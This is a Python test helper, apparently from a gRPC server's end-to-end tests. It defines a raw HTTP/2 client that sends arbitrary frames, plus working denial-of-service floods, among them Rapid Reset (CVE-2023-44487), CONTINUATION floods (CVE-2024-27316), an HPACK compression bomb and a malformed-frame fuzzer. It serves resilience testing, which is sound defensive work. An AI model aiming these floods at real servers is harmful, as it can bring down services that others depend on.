"""A hostile client of HTTP/2: it sends any frames, in any order, and as many as a server takes.

No client library does that, so the frames are written here one by one. `FLOODS` are endless streams
of frames, each of a kind that some HTTP/2 server could once be brought down with.
"""

from __future__ import annotations

import contextlib
import random
import select
import socket
import ssl
import time
from collections import Counter
from collections.abc import Callable, Iterable, Iterator
from types import TracebackType
from typing import Final, Self

import hpack
from hyperframe.exceptions import HyperframeError
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from e2e.half_open import frame

PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

HEALTH: Final = "/grpc.health.v1.Health/Check"
"""A method that everybody may call, also without a credential."""

NO_MESSAGE: Final = bytes(5)
"""gRPC's frame of an empty message."""

_MANY: Final = 1_000
"""Frames that a flood sends at once."""


def head(path: str = HEALTH, **more: str) -> list[tuple[str, str]]:
    """Returns the headers of a call."""
    return [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", "x"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
        *more.items(),
    ]


def block(*fields: tuple[str, str]) -> bytes:
    """Returns headers as a block that leaves no trace in the server's table."""
    return hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple(*one) for one in fields])


def begun(stream: int, *, ends: bool = False, path: str = HEALTH) -> bytes:
    """Returns the frame that begins a call."""
    flags = ["END_HEADERS", "END_STREAM"] if ends else ["END_HEADERS"]
    return HeadersFrame(stream, data=block(*head(path)), flags=flags).serialize()


class Hostile:
    """One connection, on which a test may send anything.

    Attributes:
        heard: How many frames of each kind the server has sent.
        goaway: The error code of the server's GOAWAY; None as long as it has sent none.
        reset: The error codes with which the server ended streams, by stream.
        ended: Streams that the server has ended in order.
        closed: Whether the server has ended the connection.
        sent: Bytes sent so far.
    """

    def __init__(
        self,
        target: str,
        *,
        hello: bool = True,
        settings: dict[int, int] | None = None,
        tls: ssl.SSLContext | None = None,
    ) -> None:
        """Connects.

        Args:
            target: The server's `HOST:PORT`.
            hello: Whether to send HTTP/2's preface, and settings, at once.
            settings: The settings by their numbers.
            tls: Connects with TLS.
        """
        host, _, port = target.rpartition(":")
        self._socket = socket.create_connection((host, int(port)), timeout=10)
        if tls is not None:
            self._socket = tls.wrap_socket(self._socket)
        self._socket.settimeout(0)
        self._input = bytearray()
        self.heard: Counter[type[Frame]] = Counter()
        self.goaway: int | None = None
        self.reset: dict[int, int] = {}
        self.ended: set[int] = set()
        self.closed = False
        self.sent = 0
        if hello:
            self.send(PREFACE + SettingsFrame(settings=settings or {}).serialize())

    def __enter__(self) -> Self:
        return self

    def __exit__(
        self,
        kind: type[BaseException] | None,
        error: BaseException | None,
        trace: TracebackType | None,
    ) -> None:
        self._socket.close()

    def send(self, data: bytes, *, seconds: float = 10.0, reads: bool = True) -> bool:
        """Sends bytes, and reads meanwhile what the server says.

        Returns:
            Whether all went out: not if the server closed the connection, or took them no longer.
        """
        left, ends = memoryview(data), time.monotonic() + seconds
        while left and not self.closed:
            wait = ends - time.monotonic()
            if wait <= 0:
                return False
            readable, writable, _ = select.select(
                [self._socket] if reads else [], [self._socket], [], wait
            )
            if readable:
                self._receive()
            if writable and not self.closed:
                try:
                    count = self._socket.send(left)
                except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
                    continue
                except OSError:
                    self._receive()
                    self.closed = True
                    break
                self.sent += count
                left = left[count:]
        return not left

    def flood(self, chunks: Iterable[bytes], seconds: float, *, reads: bool = True) -> None:
        """Sends chunks until the server ends the connection, or the time is over."""
        ends = time.monotonic() + seconds
        for chunk in chunks:
            left = ends - time.monotonic()
            if self.closed or left <= 0:
                return
            self.send(chunk, seconds=left, reads=reads)

    def listen(self, seconds: float, until: Callable[[], bool] = lambda: False) -> bool:
        """Reads until something is true or the server closes; returns whether one came in time."""
        ends = time.monotonic() + seconds
        while not (self.closed or until()):
            wait = ends - time.monotonic()
            if wait <= 0:
                return False
            if select.select([self._socket], [], [], wait)[0]:
                self._receive()
        return True

    def _receive(self) -> None:
        try:
            data = self._socket.recv(1 << 20)
        except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
            return
        except OSError:
            data = b""
        self.closed = self.closed or not data
        self._input += data
        while len(self._input) >= 9:
            with contextlib.suppress(HyperframeError):
                one, size = Frame.parse_frame_header(memoryview(bytes(self._input[:9])))
                if len(self._input) < 9 + size:
                    return
                one.parse_body(memoryview(bytes(self._input[9 : 9 + size])))
                del self._input[: 9 + size]
                self._heard(one)
                continue
            self._input.clear()

    def _heard(self, one: Frame) -> None:
        self.heard[type(one)] += 1
        if isinstance(one, GoAwayFrame):
            self.goaway = one.error_code
        elif isinstance(one, RstStreamFrame):
            self.reset[one.stream_id] = one.error_code
        elif "END_STREAM" in one.flags:
            self.ended.add(one.stream_id)


# Floods


def _same(one: bytes) -> Callable[[], Iterator[bytes]]:
    def chunks() -> Iterator[bytes]:
        while True:
            yield one * _MANY

    return chunks


def _after(first: bytes, one: bytes) -> Callable[[], Iterator[bytes]]:
    def chunks() -> Iterator[bytes]:
        yield first
        yield from _same(one)()

    return chunks


def rapid_reset() -> Iterator[bytes]:
    """CVE-2023-44487: calls that are cancelled as they begin."""
    stream = 1
    while True:
        calls = range(stream, stream + 400, 2)
        yield b"".join(begun(at) + RstStreamFrame(at, error_code=8).serialize() for at in calls)
        stream += 400


def _continuations(fragment: bytes) -> Callable[[], Iterator[bytes]]:
    """CVE-2024-27316 and its kin: headers that never end."""
    first = HeadersFrame(1, data=block(*head())).serialize()
    return _after(first, ContinuationFrame(1, data=fragment).serialize())


def bomb() -> Iterator[bytes]:
    """Headers that are small on the wire and large in memory: an entry of 4 KB, 4,000 times."""
    encoder = hpack.Encoder()
    entry = encoder.encode([*head(), ("x-bomb", "b" * 3_900)])
    yield HeadersFrame(1, data=entry, flags=["END_HEADERS", "END_STREAM"]).serialize()
    stream = 3
    while True:
        again = encoder.encode(head()) + b"\xbe" * 4_000  # The newest entry of the dynamic table.
        yield HeadersFrame(stream, data=again, flags=["END_HEADERS", "END_STREAM"]).serialize()
        stream += 2


FLOODS: Final[dict[str, Callable[[], Iterator[bytes]]]] = {
    "ping": _same(PingFrame(0, opaque_data=b"pingping").serialize()),
    "settings": _same(SettingsFrame(settings={4: 65_535}).serialize()),
    "settings acks": _same(SettingsFrame(flags=["ACK"]).serialize()),
    "priority": _same(PriorityFrame(1, depends_on=0, stream_weight=1).serialize()),
    "window updates": _after(begun(1), WindowUpdateFrame(1, window_increment=1).serialize()),
    "empty data": _after(begun(1), DataFrame(1).serialize()),
    "unknown frames": _same(frame(99, 0, b"")),
    "rapid reset": rapid_reset,
    "continuations": _continuations(block(("x-more", "m" * 100))),
    "empty continuations": _continuations(b""),
    "compression bomb": bomb,
}


def garbage(seed: int) -> Iterator[bytes]:
    """Malformed and misplaced frames: each is a valid frame with some of its bytes changed."""
    chance = random.Random(seed)
    valid = [
        begun(1),
        begun(3, ends=True),
        DataFrame(1, data=NO_MESSAGE, flags=["END_STREAM"]).serialize(),
        DataFrame(1, data=b"x" * 50, flags=["PADDED"], pad_length=9).serialize(),
        HeadersFrame(5, data=block(*head()), flags=["PRIORITY"], depends_on=3).serialize(),
        ContinuationFrame(5, data=block(("a", "b")), flags=["END_HEADERS"]).serialize(),
        RstStreamFrame(1, error_code=8).serialize(),
        SettingsFrame(settings={1: 4096, 4: 65_535, 5: 16_384}).serialize(),
        PingFrame(0, opaque_data=b"pingping").serialize(),
        GoAwayFrame(0, last_stream_id=0).serialize(),
        WindowUpdateFrame(0, window_increment=9).serialize(),
        PriorityFrame(1, depends_on=3).serialize(),
        frame(5, 4, b"\0\0\0\2" + block(*head()), 1),  # A push, which clients must not send.
    ]
    while True:
        data = bytearray(b"".join(chance.choices(valid, k=chance.randint(1, 6))))
        for _ in range(chance.choice((0, 1, 1, 2, 8))):
            at = chance.randrange(len(data))
            match chance.randrange(4):
                case 0:
                    data[at] = chance.randrange(256)
                case 1:
                    data[at] ^= 1 << chance.randrange(8)
                case 2:
                    del data[at : at + chance.randint(1, 9)]
                case _:
                    data[at:at] = chance.randbytes(chance.randint(1, 9))
            if not data:
                break
        yield bytes(data)
